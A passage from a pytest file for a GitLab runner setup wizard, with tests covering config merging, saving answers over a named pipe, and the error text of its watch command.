    from dockwright.wizard.render.common import UnmergeableFile
    from dockwright.wizard.runner_setup import config_entry

    with pytest.raises(UnmergeableFile, match=r"not a list of \[\[runners\]\] tables"):
        config_entry("[runners]\nname = 'x'\n", url="https://gitlab.example.com", name="x")


def test_an_inline_docker_table_is_merged_in_place() -> None:
    """Issue 19.10's other side: `docker = {...}` is a table gitlab-runner loads; it was kept stale before."""
    import dataclasses

    import tomlkit

    from dockwright.wizard.plan import Plan
    from dockwright.wizard.render.runner_config import SOCKET_VOLUME, render_runner_entry

    plan = dataclasses.replace(Plan(), executor="docker-socket")
    text = RUNNER_ENTRY + 'docker = {image = "old:1", volumes = ["/data"]}\n'
    docker = tomlkit.parse(render_runner_entry(plan, text, url="https://gitlab.example.com"))["runners"][0]["docker"]
    assert docker["image"] == plan.runner.docker_image
    assert SOCKET_VOLUME in docker["volumes"] and "/data" in docker["volumes"]


def test_saving_answers_over_a_fifo_is_a_sentence(tmp_path) -> None:
    """The wizard's save read a FIFO named dockwright.yml and blocked forever; in a child, so a regression fails."""
    fifo = tmp_path / "dockwright.yml"
    os.mkfifo(fifo)
    code = ("from dockwright.wizard.answers_file import save_answers\nfrom dockwright.wizard.plan import Plan\n"
            "from dockwright.wizard.errors import DockwrightError\n"
            f"try:\n    save_answers(Plan(), {str(fifo)!r})\n"
            "except DockwrightError as exc:\n    print(exc)\n")
    proc = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, timeout=300,
                          stdin=subprocess.DEVNULL, check=False)
    assert "The answers file" in proc.stdout and "named pipe" in proc.stdout, proc.stdout + proc.stderr
    assert stat.S_ISFIFO(fifo.lstat().st_mode)


def test_watch_outside_a_clone_says_what_to_pass_naming_itself_once(tmp_path, monkeypatch, capsys) -> None:
    """It printed "dockwright: dockwright could not tell which GitLab project to watch" (issue 16, Texts)."""
    monkeypatch.chdir(tmp_path)
    code = main(["watch", "--url", "http://127.0.0.1:9"])
    err = capsys.readouterr().err
    assert code == EXIT_BAD_INPUT
    assert "dockwright: dockwright" not in err and "--project group/app" in err, err
